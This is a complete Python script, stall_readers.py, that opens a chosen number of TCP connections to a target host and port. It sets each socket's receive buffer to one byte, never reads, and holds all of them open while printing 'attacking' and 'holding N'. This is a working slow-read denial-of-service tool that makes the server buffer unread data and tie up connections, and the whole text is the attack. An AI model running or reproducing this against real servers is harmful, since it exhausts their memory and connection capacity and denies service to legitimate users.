"""Holds connections to an origin that sends endlessly, and never reads from them.

    stall_readers.py HOST PORT COUNT

Prints their number once all of them are established, and keeps holding them.
"""

import argparse
import resource
import selectors
import signal
import socket

AT_ONCE = 20


def dial(host, port):
    dialled = socket.socket()
    dialled.setblocking(False)
    # As little as possible in the kernel here: unread data should be buffered on the way.
    dialled.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
    dialled.connect_ex((host, port))
    return dialled


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("count", type=int)
    arguments = parser.parse_args()
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    selector = selectors.EpollSelector()
    pending = 0
    held = []
    print("attacking", flush=True)
    while len(held) < arguments.count:
        while pending < min(AT_ONCE, arguments.count - len(held)):
            selector.register(dial(arguments.host, arguments.port), selectors.EVENT_WRITE)
            pending += 1
        for key, _ in selector.select():
            selector.unregister(key.fileobj)
            pending -= 1
            if key.fileobj.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                held.append(key.fileobj)
    print(f"holding {len(held)}", flush=True)
    signal.pause()


if __name__ == "__main__":
    main()
